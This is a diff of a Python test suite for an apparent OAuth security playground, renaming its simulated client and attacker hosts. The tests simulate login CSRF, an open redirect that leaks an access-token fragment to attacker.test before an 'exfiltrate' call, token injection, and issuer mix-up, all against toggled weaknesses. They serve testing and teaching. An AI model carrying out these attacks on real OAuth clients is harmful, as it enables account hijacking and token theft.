@@ -28,7 +28,7 @@ def sign_in_through(browser, start: str) -> None:
 def attackers_code(world: World) -> str:
     """Mallory signs in to PhotoPrint with her own account (bob) and keeps the code."""
     mallory = world.attacker.browser
-    mallory.open("https://client.playground.test/login?scope=basic")
+    mallory.open("https://photoprint.test/login?scope=basic")
     mallory.follow_redirect()
     mallory.sign_in("bob", "builder")
     mallory.follow_redirect()
@@ -43,8 +43,8 @@ def test_csrf_with_unchecked_state_links_the_victim_to_the_attackers_account(
     world = World(keys=keys, weaknesses=["client.skip_state_check"] if weak else [])
     code = attackers_code(world)
     victim = world.browser
-    victim.open("https://client.playground.test/login?scope=basic")  # her own session
-    victim.open(f"https://client.playground.test/callback?code={code}&state=forged")
+    victim.open("https://photoprint.test/login?scope=basic")  # her own session
+    victim.open(f"https://photoprint.test/callback?code={code}&state=forged")
     if weak:
         assert victim.status == 200
         assert "Hello Bob Builder" in victim.page.text
@@ -58,30 +58,25 @@ def test_csrf_with_unchecked_state_links_the_victim_to_the_attackers_account(
 def test_open_redirect_on_the_client(keys, weak):
     world = World(keys=keys, weaknesses=["client.open_redirect"] if weak else [])
     browser = world.browser
-    browser.open(
-        "https://client.playground.test/go?to=https://attacker.playground.test/x"
-    )
+    browser.open("https://photoprint.test/go?to=https://attacker.test/x")
     if weak:
-        assert browser.redirect_location == "https://attacker.playground.test/x"
+        assert browser.redirect_location == "https://attacker.test/x"
     else:
         assert browser.status == 400 and browser.redirect_location is None
-    browser.open("https://client.playground.test/go?to=/callback")
-    assert browser.redirect_location == "https://client.playground.test/callback"
+    browser.open("https://photoprint.test/go?to=/callback")
+    assert browser.redirect_location == "https://photoprint.test/callback"
 
 
 def test_redirect_keeps_the_fragment_like_a_browser(keys):
     world = World(keys=keys, weaknesses=["client.open_redirect"])
     browser = world.browser
     browser.open(
-        "https://client.playground.test/go?"
-        + urlencode({"to": "https://attacker.playground.test/landing"})
+        "https://photoprint.test/go?"
+        + urlencode({"to": "https://attacker.test/landing"})
         + "#access_token=secret"
     )
     browser.follow_redirect()
-    assert (
-        browser.address
-        == "https://attacker.playground.test/landing#access_token=secret"
-    )
+    assert browser.address == "https://attacker.test/landing#access_token=secret"
     # The fragment itself never went over the wire.
     assert all("secret" not in e.request.url for e in world.transcript.exchanges)
     world.attacker.exfiltrate(browser)
@@ -95,9 +90,9 @@ def test_token_injection_into_a_client_that_trusts_any_token(keys, weak):
     stolen = world.first_party_app.password("alice", "wonderland", "basic")
     token = stolen.json()["access_token"]
     mallory = world.attacker.browser
-    mallory.open("https://client.playground.test/legacy/callback")
+    mallory.open("https://photoprint.test/legacy/callback")
     mallory.http.post(
-        "https://client.playground.test/legacy/session", data={"access_token": token}
+        "https://photoprint.test/legacy/session", data={"access_token": token}
     )
     session = [
         e for e in world.transcript.exchanges if e.request.url.endswith("/session")
@@ -120,7 +115,7 @@ def test_legacy_client_accepts_its_own_token(keys):
     browser.follow_redirect()
     token = browser.fragment_params["access_token"]
     response = browser.http.post(
-        "https://client.playground.test/legacy/session", data={"access_token": token}
+        "https://photoprint.test/legacy/session", data={"access_token": token}
     )
     assert response.status_code == 200
     assert b"Signed in as Alice Liddell" in response.content
@@ -130,10 +125,10 @@ def test_legacy_client_accepts_its_own_token(keys):
 def test_callback_checks_iss_against_the_server_it_used(keys, weak):
     world = World(keys=keys, weaknesses=["client.skip_iss_check"] if weak else [])
     browser = world.browser
-    sign_in_through(browser, "https://client.playground.test/login?scope=basic")
+    sign_in_through(browser, "https://photoprint.test/login?scope=basic")
     params = browser.redirect_params
-    forged = "https://client.playground.test/callback?" + urlencode(
-        {**params, "iss": "https://as.attacker.playground.test"}
+    forged = "https://photoprint.test/callback?" + urlencode(
+        {**params, "iss": "https://as.attacker.test"}
     )
     browser.open(forged)
     if weak:
